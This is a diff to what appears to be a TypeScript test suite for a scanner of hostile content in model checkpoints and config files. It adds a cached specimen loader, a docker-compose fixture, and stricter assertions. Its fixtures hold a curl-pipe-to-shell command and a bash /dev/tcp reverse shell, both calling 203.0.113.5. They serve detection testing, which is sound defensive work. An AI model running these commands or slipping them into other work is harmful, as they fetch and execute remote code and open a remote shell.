@@ -70,7 +70,14 @@ const rows = z.array(
   }),
 );
 
+let specimens: readonly Specimen[] | null = null;
+
 function kept(): readonly Specimen[] {
+  specimens ??= readKept();
+  return specimens;
+}
+
+function readKept(): readonly Specimen[] {
   const folder = new URL('hostile/', import.meta.url);
   return readdirSync(folder)
     .filter((name) => /\.json(?:\.gz)?$/.test(name) && !name.includes('harmless'))
@@ -104,6 +111,11 @@ describe('what was found does not vanish behind appended bytes', () => {
       'a short graph of a checkpoint',
       'model.meta',
       Buffer.concat([Buffer.from([0x12, graph('PyFunc').length]), graph('PyFunc')]),
+    ],
+    [
+      'settings in YAML',
+      'docker-compose.yml',
+      Buffer.from('services:\n  a:\n    command: sh -c "curl -s http://203.0.113.5/a | sh"\n'),
     ],
     ['a script', 'run.sh', Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')],
   ])('%s', async (name, path, bytes) => {
@@ -145,24 +157,26 @@ describe('what was found does not vanish behind appended bytes', () => {
     const gone: string[] = [];
     const tricks = ZIP_TRICKS.map(({ name, bytes }) => ({ name, path: 'model.pt', bytes }));
     for (const specimen of sampled([...tricks, ...kept()], 101)) gone.push(...(await vanishing(specimen)));
-    const named = gone.map((row) => row.split(' behind ')[0] ?? '');
-    expect(gone.filter((_, at) => !STILL.includes(named[at] ?? ''))).toEqual([]);
-    if (DEEP) expect(STILL.filter((name) => !named.includes(name))).toEqual([]);
+    expect(gone).toEqual([]);
+  });
+
+  it('of those whose end says where all else is, or which an archive stands behind', async () => {
+    const asked = kept().filter(({ name }) => ONCE_TOLD_AS_LESS.includes(name));
+    expect(asked.map(({ name }) => name)).toEqual(ONCE_TOLD_AS_LESS);
+    const gone: string[] = [];
+    for (const specimen of asked) gone.push(...(await vanishing(specimen)));
+    expect(gone).toEqual([]);
   });
 });
 
-/**
- * Still told as less behind some bytes, never as clean: a table of ORC, whose end says where all else is; settings in YAML
- * before what is no text; and programs in what an archive holds, behind a whole other archive.
- */
-const STILL: readonly string[] = [
+/** A table of ORC, an archive in a database, programs in checkpoints. */
+const ONCE_TOLD_AS_LESS: readonly string[] = [
   'eighteenth.json.gz carried/11 m.orc',
   'eighteenth.json.gz carried/15 zip.sqlite3',
   'eighth.json.gz libraries/374 model.pt',
   'tenth.json.gz zip/736 model.pt',
   'third.json.gz torchscript/454 model.pt',
   'third.json.gz torchscript/456 model.pt',
-  'twelfth.json.gz settings/17 docker-compose.yml',
 ];
 
 /** A graph of TensorFlow with one node. */
